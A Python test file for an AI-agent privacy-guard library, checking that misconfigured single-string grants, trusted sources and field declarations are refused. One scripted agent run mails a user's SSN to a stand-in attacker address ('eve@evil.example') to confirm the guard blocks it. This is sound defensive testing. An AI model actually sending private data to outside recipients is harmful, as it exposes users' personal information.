"""A privacy declaration given one text where it takes a list of names reads the text's letters.

`PrivacyPolicy.of(grants={cpa: "file:tax/*"})` makes the grant the patterns "f", "i", ..., "/", "*": the
lone "*" matches every source, so the CPA may read everything the user's tools return (the SSN is mailed to
them), and `trusted_sources="email:from:*@rent.example"` trusts every source, an attacker's web page too.
`privacy_source(private="ssn")` declares the fields "s" and "n" private: the SSN field is public and is mailed
to anyone. A guard's `tools` given one text is refused for this very reason (`ConfigError`, docs/privacy.md "What you
get"); these declarations decide who may read private data, so one text there must be refused too, naming
the argument, before anything runs.

Fixed: one text where a list of names or patterns belongs raises `ConfigError` naming the argument;
`PrivacyPolicy` checks `on_violation` and `undeclared_output` as it checks `context_taint`.
"""

from __future__ import annotations

import pytest
from _mail import mail_effect
from langgraph.checkpoint.memory import InMemorySaver

from guards import PrivacyFlow, PrivacyPolicy, privacy_sink, privacy_source
from vfa import Agent, VfaError
from vfa.testing import ScriptedModel

USER, CPA, EVE, SSN = "emma@home.example", "cpa@tax.example", "eve@evil.example", "078-05-1120"


def _mailed(policy: PrivacyPolicy, to: str, private=("ssn",)) -> list:
    """Mails sent when the model reads the profile in clear and mails its SSN to `to`."""
    sent: list = []

    @privacy_sink()
    @privacy_source(private=private, handle=False, kind="profile")
    def get_profile() -> dict:
        """The user's profile."""
        return {"name": "Emma", "ssn": SSN}

    flow = PrivacyFlow(policy)
    script = [("get_profile", {}), ("send_email", {"to": [to], "body": f"my ssn is {SSN}"}), "done"]
    app = Agent(ScriptedModel(script), [get_profile, mail_effect(sent)], guards=[flow.guard()], flow=flow).compile(
        checkpointer=InMemorySaver())
    app.invoke({"messages": [("user", f"send my tax papers to {to}")]}, {"configurable": {"thread_id": "t"}})
    return sent


def test_the_list_form_denies_the_ssn_to_a_reader_granted_only_tax_files():
    assert _mailed(PrivacyPolicy.of(USER, grants={CPA: ["file:tax/*"]}), CPA) == []


def test_a_grant_written_as_one_pattern_is_refused_not_read_as_its_letters():
    try:
        policy = PrivacyPolicy.of(USER, grants={CPA: "file:tax/*"})
    except (TypeError, ValueError, VfaError) as exc:
        assert "grants" in str(exc) and "file:tax/*" in str(exc)
        return
    assert _mailed(policy, CPA) == [], "a grant of 'file:tax/*' let the CPA read the SSN"


def test_trusted_sources_written_as_one_pattern_is_refused():
    with pytest.raises((TypeError, ValueError, VfaError), match="trusted_sources"):
        PrivacyPolicy.of(USER, trusted_sources="email:from:*@rent.example")


@pytest.mark.parametrize("kw", ["private", "untrusted", "handle", "readers_from"])
def test_a_source_declaration_written_as_one_field_name_is_refused(kw):
    with pytest.raises((TypeError, ValueError, VfaError), match=kw):
        privacy_source(**{kw: "ssn"})


@pytest.mark.parametrize("kw", ["authority", "internal"])
def test_a_sink_declaration_written_as_one_argument_name_is_refused(kw):
    with pytest.raises((TypeError, ValueError, VfaError), match=kw):
        privacy_sink(**{kw: "to"})


def test_a_private_field_written_as_one_name_never_reaches_a_stranger():
    try:
        sent = _mailed(PrivacyPolicy.of(USER), EVE, private="ssn")
    except (TypeError, ValueError, VfaError) as exc:
        assert "private" in str(exc)
        return
    assert sent == [], "privacy_source(private='ssn') left the SSN public: it was mailed to eve"


@pytest.mark.parametrize("kw", [{"on_violation": "Ask"}, {"undeclared_output": "TRUSTED"}])
def test_a_policy_option_of_no_known_value_is_refused(kw):
    """Only `context_taint` is checked: `on_violation="Ask"` silently denies instead of asking, and
    `undeclared_output="TRUSTED"` silently stays untrusted; a typo in a policy should fail where it is written."""
    with pytest.raises((ValueError, VfaError), match=next(iter(kw))):
        PrivacyPolicy.of(USER, **kw)
